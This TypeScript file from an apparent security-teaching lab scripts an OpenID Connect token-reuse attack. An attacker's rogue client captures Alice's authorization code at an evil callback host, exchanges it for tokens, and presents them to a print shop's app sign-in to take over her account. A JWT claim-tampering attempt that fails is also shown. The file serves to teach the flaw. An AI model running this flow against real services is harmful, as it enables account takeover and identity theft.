import type { Answer, Place } from '../engine/lab.ts'
import { orderPhoto } from '../engine/order-photo.ts'
import { authorizationUrl, newVerifier, registerWinAPrint, requestTokens, type Tokens } from '../engine/own-client.ts'

/** What Mallory's site asks: who somebody is, as any site may. */
const scope = 'openid profile'

/** Alice tells Win A Print who she is, and no more. Mallory takes what Win A Print got for it, and is Alice at the shop. */
export async function attack(place: Place): Promise<Answer> {
  await beCustomer(place)
  return bring(place, await tokensOfWinAPrint(place))
}

/** The same, with another name written into the note: the signature no longer fits. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  const { id_token = '', ...rest } = await tokensOfWinAPrint(place)
  const [head, claims = '', signature] = id_token.split('.')
  const others = { ...JSON.parse(Buffer.from(claims, 'base64url').toString()), sub: 'alice' }
  const written = Buffer.from(JSON.stringify(others)).toString('base64url')
  return bring(place, { ...rest, id_token: [head, written, signature].join('.') })
}

/** What Mallory's desk has for this lab: her two keys, and the door of the shop's app. */
export const evilDesk = ({ shop }: Place): string =>
  `<section><h2>Be the shop’s app</h2><form method="post" action="${shop}/sign-in/app"><label for="id_token">id_token</label><input id="id_token" name="id_token" required autocomplete="off" spellcheck="false"><label for="access_token">access_token</label><input id="access_token" name="access_token" required autocomplete="off" spellcheck="false"><button type="submit">Bring both to PrintShop</button></form></section>
`

/** The token request of Win A Print, for the code that came into the inbox. */
export const typed = ({ auth, evil }: Place): string => `POST ${auth}/token

grant_type=authorization_code
client_id=
code=
code_verifier=${'a'.repeat(43)}
redirect_uri=${evil}/callback`

// Alice is a customer: she is signed in at the shop, and has ordered a print.
async function beCustomer(place: Place): Promise<void> {
  const alice = place.person('alice')
  await alice.walk(`${place.shop}/sign-in/id-token`)
  await alice.walk(`${place.shop}/connect`, { photos: 2 })
  await orderPhoto(place, alice)
}

async function tokensOfWinAPrint(place: Place): Promise<Tokens> {
  const redirect_uri = `${place.evil}/callback`
  const client_id = await registerWinAPrint(place, redirect_uri, scope)
  const { code_verifier, code_challenge } = newVerifier()
  const question = authorizationUrl(place, { client_id, redirect_uri, scope }, code_challenge)
  await place.person('alice').walk(`${question}&nonce=of-win-a-print`)
  const code = new URL(place.inbox.at(-1)?.path ?? '', place.evil).searchParams.get('code') ?? ''
  const request = { grant_type: 'authorization_code', client_id, redirect_uri, code, code_verifier }
  return (await requestTokens(place, request)).tokens
}

async function bring({ shop, person }: Place, { id_token = '', access_token = '' }: Tokens): Promise<Answer> {
  const mallory = person('mallory')
  const body = new URLSearchParams({ id_token, access_token })
  const answer = await mallory.open(`${shop}/sign-in/app`, { method: 'POST', body })
  if (answer.status >= 400) return { status: answer.status, text: await answer.text() }
  const account = await mallory.open(`${shop}/account`)
  return { status: account.status, text: await account.text() }
}
